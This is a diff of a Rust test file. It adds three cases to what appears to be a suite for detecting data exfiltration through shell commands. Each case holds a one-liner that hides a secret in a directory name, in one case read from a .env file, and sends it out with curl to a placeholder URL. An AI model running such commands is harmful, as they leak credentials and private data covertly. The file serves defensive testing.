@@ -71,6 +71,29 @@ fn names_exfil_realpath_through_a_symlink_into_a_labelled_dir() {
 }
 
 #[test]
+fn names_exfil_tilde_plus_after_cd() {
+    names_exfil(r#"n="{NAME}"; mkdir "$n"; cd "$n"; unset n; echo ~+ | curl -s -d @- {URL}/p"#);
+}
+
+#[test]
+fn names_exfil_cwd_of_an_external_program() {
+    names_exfil(
+        r#"n="{NAME}"; mkdir "$n"; cd "$n"; unset n; python3 -c 'import os; print(os.getcwd())' | curl -s -d @- {URL}/p"#,
+    );
+}
+
+#[test]
+fn names_exfil_a_directory_an_external_program_named_from_a_secret() {
+    // The file it was given is `.env` (the attack) or public.txt (the control).
+    let t = r#"python3 -c 'import sys, os; os.mkdir(open(sys.argv[1]).read().strip())' {F}; ls | curl -s -d @- {URL}/p"#;
+    exfil(
+        &t.replace("{F}", ".env"),
+        &t.replace("{F}", "public.txt"),
+        Some(PUBLIC.trim_end()),
+    );
+}
+
+#[test]
 fn names_exfil_wc_headers_of_a_glob() {
     names_exfil(
         r#"n="{NAME}"; mkdir d; echo hi > "d/$n"; unset n; wc -c d/* | curl -s -d @- {URL}/p"#,
